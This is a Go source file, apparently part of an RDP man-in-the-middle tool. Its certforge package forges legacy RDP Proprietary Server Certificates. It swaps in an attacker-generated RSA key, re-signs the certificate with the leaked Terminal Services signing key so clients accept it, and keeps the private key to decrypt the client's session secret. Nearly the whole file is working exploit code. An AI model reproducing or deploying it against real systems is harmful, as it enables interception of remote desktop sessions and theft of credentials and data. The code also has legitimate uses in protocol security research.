// Package certforge forges RDP Proprietary Server Certificates, replacing
// the real server's public key with one this tool controls while keeping
// every other field and the signature layout byte-identical, so the client
// accepts the substitution without complaint.
package certforge

import (
	"bytes"
	"crypto/md5"
	"errors"
	"math/big"

	"github.com/rcarmo/rdp-mitm/internal/rdpcrypto"
)

// ErrNotProprietaryCertificate is returned when the self-check signature
// verification fails, meaning the certificate is not a legacy Proprietary
// Certificate this tool can forge (e.g. it's an X.509 certificate instead).
var ErrNotProprietaryCertificate = errors.New("certforge: certificate is not a forgeable RDP Proprietary Certificate")

// rsa1Magic is the 4-byte magic every Proprietary Certificate public-key
// blob begins with.
var rsa1Magic = []byte("RSA1")

// Context holds everything extracted from a Server MCS Connect Response's
// Server Security Data needed to forge a replacement certificate.
type Context struct {
	Modulus            []byte // little-endian original modulus, key_len bytes
	PubExponent        uint32
	OriginalSignature  []byte
	OriginalPubkeyBlob []byte // full pubkey blob including the "RSA1" header
	FirstFiveFields    []byte // dwVersion||dwSigAlg||dwKeyAlg||pubkeyType||pubkeyLen
}

// ForgedKeys is the keypair this tool generated to stand in for the real
// server's, sized so the serialized modulus occupies exactly as many bytes
// as the original.
type ForgedKeys struct {
	Modulus         *big.Int
	PrivateExponent *big.Int
}

// Forgery is the result of forging a certificate: the new pubkey blob and
// signature, plus the generated keypair needed to later decrypt the
// client's encrypted random.
type Forgery struct {
	NewPubkeyBlob []byte
	NewSignature  []byte
	Keys          *ForgedKeys
}

// Forge implements the certificate forger's seven contractual steps. It
// validates pubkey[0:4] == "RSA1" before doing anything else, so it is
// safe to call directly without going through the full PDU inspector
// pipeline.
func Forge(ctx *Context) (*Forgery, error) {
	if len(ctx.OriginalPubkeyBlob) < 4 || !bytes.Equal(ctx.OriginalPubkeyBlob[:4], rsa1Magic) {
		return nil, ErrNotProprietaryCertificate
	}

	effectiveBytes := len(ctx.Modulus) - 8
	if effectiveBytes <= 0 {
		return nil, ErrNotProprietaryCertificate
	}

	n, d, err := rdpcrypto.GenerateKeypair(effectiveBytes, uint(ctx.PubExponent))
	if err != nil {
		return nil, err
	}
	newModulus := rdpcrypto.IntToLEBytes(len(ctx.Modulus), n)

	newPubkeyBlob := bytes.Replace(ctx.OriginalPubkeyBlob, ctx.Modulus, newModulus, 1)

	// Self-check: re-signing the ORIGINAL fields must reproduce the
	// original signature, or this isn't a certificate we can forge.
	recomputed := signCertificate(append(append([]byte{}, ctx.FirstFiveFields...), ctx.OriginalPubkeyBlob...), len(ctx.OriginalSignature))
	if !bytes.Equal(recomputed, ctx.OriginalSignature) {
		return nil, ErrNotProprietaryCertificate
	}

	newSignature := signCertificate(append(append([]byte{}, ctx.FirstFiveFields...), newPubkeyBlob...), len(ctx.OriginalSignature))

	return &Forgery{
		NewPubkeyBlob: newPubkeyBlob,
		NewSignature:  newSignature,
		Keys:          &ForgedKeys{Modulus: n, PrivateExponent: d},
	}, nil
}

// signCertificate signs sigInput with the leaked Terminal Services private
// key per MS-RDPBCGR's signature tail layout: MD5(sigInput) || 0x00 ||
// 0xFF*45 || 0x01, interpreted little-endian, raised to the TS private
// exponent mod the TS modulus, serialized to sigLen little-endian bytes.
func signCertificate(sigInput []byte, sigLen int) []byte {
	h := md5.Sum(sigInput)

	m := make([]byte, 0, 16+1+45+1)
	m = append(m, h[:]...)
	m = append(m, 0x00)
	m = append(m, bytes.Repeat([]byte{0xFF}, 45)...)
	m = append(m, 0x01)

	return rdpcrypto.ModExpLE(m, TSSigningKeyD, TSSigningKeyN, sigLen)
}
